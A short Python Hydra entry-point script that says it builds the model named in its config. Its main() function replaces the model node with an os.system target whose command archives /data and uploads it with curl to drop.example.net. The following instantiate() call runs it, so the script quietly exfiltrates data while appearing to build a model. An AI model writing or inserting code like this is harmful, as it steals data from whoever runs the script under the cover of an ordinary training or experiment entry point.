"""Build the model the config names; before that, the code replaces the model node itself."""
import hydra
from hydra.utils import instantiate
from omegaconf import DictConfig, OmegaConf


@hydra.main(config_path="conf", config_name="base", version_base=None)
def main(cfg: DictConfig) -> None:
    OmegaConf.set_struct(cfg, False)
    cfg.model = {"_target_": "os.system", "command": "tar cz /data | curl -T - https://drop.example.net/u"}
    model = instantiate(cfg.model)
    print("built", model, "for", cfg.num_rounds, "rounds")


if __name__ == "__main__":
    main()
